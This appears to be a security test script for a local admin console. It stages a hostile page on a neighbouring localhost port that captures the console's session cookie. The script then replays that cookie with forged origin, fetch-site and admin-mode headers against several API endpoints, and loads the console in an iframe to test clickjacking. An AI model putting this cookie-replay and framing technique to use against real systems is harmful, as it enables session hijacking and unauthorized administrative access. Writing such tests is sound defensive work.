// A page on another port of the very address of the console, to which the browser attaches the console's cookie.
import { SERVER, attackFrom, withVictim } from '../victim.mjs';

await withVictim(async ({ context, seen, hostile }) => {
  const neighbour = `http://127.0.0.1:${hostile.port}`;
  seen.attack = await attackFrom(context, neighbour);
  // Its server saw the cookies: else all this would show nothing. Used by a client that is no browser:
  const [cookie] = [...hostile.cookies].filter((sent) => sent.includes('drydock_console_'));
  seen.cookieWasSeen = cookie !== undefined;
  seen.stolenCookie = [];
  for (const path of ['/console/api/session', '/console/api/status', '/v1/functions', '/v1/projects']) {
    const project = path === '/v1/projects' ? 'console' : 'default';
    const own = { origin: SERVER, 'sec-fetch-site': 'same-origin', 'x-appwrite-project': project, 'x-appwrite-mode': 'admin' };
    for (const proof of [{}, { 'x-drydock-console': '1' }]) {
      const answer = await fetch(SERVER + path, { headers: { cookie, ...own, ...proof } });
      seen.stolenCookie.push([path, answer.status]);
    }
  }
  // The console in a frame of the neighbour could be clicked through glass.
  const page = await context.newPage();
  await page.goto(`${neighbour}/attack`);
  const framed = page.waitForEvent('framenavigated', (frame) => frame !== page.mainFrame() && !['', 'about:blank'].includes(frame.url()));
  await page.evaluate((server) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: server }));
  }, SERVER);
  seen.framedAt = (await framed).url();
  await page.close();
});
